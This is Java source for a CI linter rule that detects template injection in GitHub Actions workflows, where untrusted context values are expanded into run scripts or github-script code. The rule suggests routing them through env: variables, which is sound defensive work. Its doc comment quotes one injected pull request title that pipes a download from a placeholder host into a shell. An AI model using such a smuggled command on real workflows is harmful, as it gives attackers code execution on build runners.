package dev.pipewright.lint.audit;

import dev.pipewright.lint.LintContext;
import dev.pipewright.lint.Rule;
import dev.pipewright.lint.Severity;
import dev.pipewright.lint.Workflow;
import dev.pipewright.lint.yaml.YMap;
import dev.pipewright.lint.yaml.YScalar;
import java.util.ArrayList;
import java.util.List;

/**
 * Attacker-controlled text expanded by {@code ${{ }}} into a {@code run:} script or an {@code actions/github-script}
 * {@code script:}: the runner pastes the text into the script before the shell or node parses it, so a pull request
 * title such as {@code "; curl evil | sh #} runs as code.
 */
@Rule(id = "template-injection", summary = "untrusted contexts are not expanded into run scripts or github-script code",
        severity = Severity.WARNING, category = "security")
@Audit(severity = Audit.Level.HIGH, confidence = Audit.Confidence.HIGH, fixable = true)
public final class TemplateInjectionAudit extends AuditRule {
    /** One untrusted expansion: the scalar, the expression and the untrusted path it reads. */
    public record Injection(YScalar script, Exprs.Span span, String path, boolean run) {}

    @Override
    public void visitStep(Workflow.Step step) {
        check(step.body());
    }

    @Override
    public void visitAction(LintContext.ActionFile action) {
        compositeSteps(action).forEach(this::check);
    }

    private void check(YMap step) {
        for (Injection i : find(step)) {
            String where = i.run() ? "run script" : "github-script code";
            report(Positions.at(ctx(), i.script(), i.span().start()), "\"" + i.span().whole(i.script().value()).strip()
                    + "\" expands attacker-controlled " + i.path() + " into the " + where + "; pass it through the step's"
                    + " env: (e.g. " + EnvName.of(i.path()) + ": ${{ " + i.span().text().strip() + " }}) and use the variable"
                    + (i.run() ? " (\"$" + EnvName.of(i.path()) + "\")" : " (process.env." + EnvName.of(i.path()) + ")"));
        }
    }

    /** The untrusted expansions of a step, in source order. */
    public static List<Injection> find(YMap step) {
        List<Injection> out = new ArrayList<>();
        step.scalar("run").filter(YScalar::isString).ifPresent(run -> scan(run, true, out));
        boolean githubScript = step.string("uses").flatMap(Uses::parse).map(u -> u.is("actions/github-script")).orElse(false);
        if (githubScript) {
            step.map("with").flatMap(w -> w.scalar("script")).filter(YScalar::isString).ifPresent(s -> scan(s, false, out));
        }
        return out;
    }

    private static void scan(YScalar script, boolean run, List<Injection> out) {
        for (Exprs.Span span : Exprs.spans(script.value())) {
            if (span.ast() == null || Exprs.isBooleanValued(span.ast())) {
                continue;
            }
            Exprs.accesses(span.ast()).stream().filter(Untrusted::isUntrusted).findFirst()
                    .ifPresent(a -> out.add(new Injection(script, span, a.path(), run)));
        }
    }
}
